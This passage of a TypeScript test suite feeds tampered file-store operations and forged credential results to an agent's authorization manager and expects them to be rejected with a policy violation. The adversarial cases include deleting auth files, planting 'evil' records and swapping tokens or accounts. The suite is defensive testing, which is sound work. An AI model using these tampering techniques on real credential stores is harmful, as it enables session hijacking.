      { type: "remove", name: "leftovers/auth.json" },
    ],
    [
      "a month that is there",
      "save thread",
      { type: "list", name: "threads", limit: 64 },
      { type: "list", name: `threads/${thisMonth}`, limit: 16 },
    ],
    [
      "a month that was not listed",
      "save thread",
      { type: "list", name: "threads", limit: 64 },
      { type: "remove", name: `threads/${oldMonth}` },
    ],
    [
      "a record of this month",
      "save thread",
      { type: "list", name: "threads", limit: 64 },
      { type: "remove", name: `threads/${thisMonth}/${nameOf("thread-2")}` },
    ],
    [
      "a record of another slot",
      "save backoff",
      { type: "create", name: "record/backoff", content: { utf8: "evil" } },
    ],
    [
      "a record of a thread",
      "save thread",
      { type: "create", name: `thread/${thisMonth}`, content: { utf8: "evil" } },
    ],
    [
      "a record in another month",
      "save thread",
      { type: "create", name: `thread/${lastMonth}`, content: { utf8: "{}" } },
    ],
    [
      "a record that was not looked at",
      "swap beside",
      { type: "create", name: "record/identity", content: { utf8: newIdentity } },
    ],
    [
      "what was not found",
      "load thread",
      { type: "move", name: `thread/${lastMonth}`, to: `thread/${thisMonth}` },
    ],
    [
      "over auth.json",
      "load thread",
      { type: "read", name: `thread/${lastMonth}` },
      { type: "move", name: `thread/${lastMonth}`, to: "target" },
    ],
    [
      "auth.json",
      "load thread",
      { type: "read", name: `thread/${lastMonth}` },
      { type: "move", name: "target", to: `thread/${thisMonth}` },
    ],
    ["an effect that is none", "load", { type: "exec", name: "target" }],
    ["a type that is two", "load", { type: ["read"], name: "target" }],
    ["a name that is bytes", "load", { type: "read", name: { utf8: "target" } }],
  ];
  for (const [name, operation, ...effects] of cases) {
    test(`${operation}: ${name}`, (t) => attack(core, newStore(t), operation, ...effects));
  }
});

describe("no result is believed that was not read", { skip }, async () => {
  const core = await AgentAssert.load(module);
  const done = (result: unknown) => ({ type: "done", result });
  const who = { kind: "chatgpt", access_token: "secret-token", account_id: "acct-1" };
  const cases: [name: string, operation: string, result: unknown][] = [
    ["another token", "credentials", { credentials: { ...who, access_token: "evil" } }],
    ["the refresh token", "credentials", { credentials: { ...who, access_token: "secret-refresh" } }],
    ["no token", "credentials", { credentials: { kind: "chatgpt", account_id: "acct-1" } }],
    ["another account", "credentials", { credentials: { ...who, account_id: "acct-2" } }],
    ["another user", "credentials", { credentials: { ...who, user_id: "user-2" } }],
    ["another kind", "credentials", { credentials: { ...who, kind: "agent-identity" } }],
    ["nobody", "credentials", { credentials: { kind: "none" } }],
    ["a mark", "credentials", { credentials: { ...who, fedramp: true } }],
    [
      "an error that is none",
      "credentials",
      { credentials: { ...who, problem: { code: "A B", message: "x" } } },
    ],
    ["credentials that are a text", "credentials", { credentials: "evil" }],
    ["no credentials", "credentials", {}],
    ["another identity", "load", { record: { utf8: newIdentity } }],
    ["no identity", "load", {}],
    ["the tokens", "load", { record: { utf8: '{"access_token":"secret-token"}' } }],
    ["a record that is a text", "load", { record: identity }],
    ["another record", "load backoff", { record: { utf8: "evil" } }],
    ["no record", "load backoff", {}],
    ["another thread's record", "load thread", { record: { utf8: '{"task_id":"secret-task-2"}' } }],
    ["a record of a save", "save backoff", { record: { utf8: "{}" } }],
    ["an error without a code", "load", { error: { code: "", message: "x" } }],
    ["a result that is a text", "load", "evil"],
  ];
  for (const [name, operation, result] of cases) {
    test(`${operation}: ${name}`, (t) => attack(core, newStore(t), operation, done(result)));
  }

  test("a manager with such a store is told so, and makes no request", async (t) => {
    const { core, backend, open } = await setUp({
      store: fileStore(newStore(t), { lock: "process" }),
      credentials: undefined as never,
    });
    const manager = open();
    obey(
      core,
      wants("file.step", { type: "read", name: "target" }),
      wants("file.step", done({ credentials: { ...who, account_id: "acct-2" } })),
    );
    assert.equal(await codeOf(() => manager.authorization("apps")), "policy_violation");
    obey(
      core,
      wants("flow.step", { type: "load", slot: "backoff" }),
      wants("file.step", { type: "remove", name: "target" }),
    );
    // The first step of a file is that of the credentials.
    assert.equal(await codeOf(() => manager.authorization("apps")), "policy_violation");
    assert.equal(backend.seen.length, 0);
  });
});
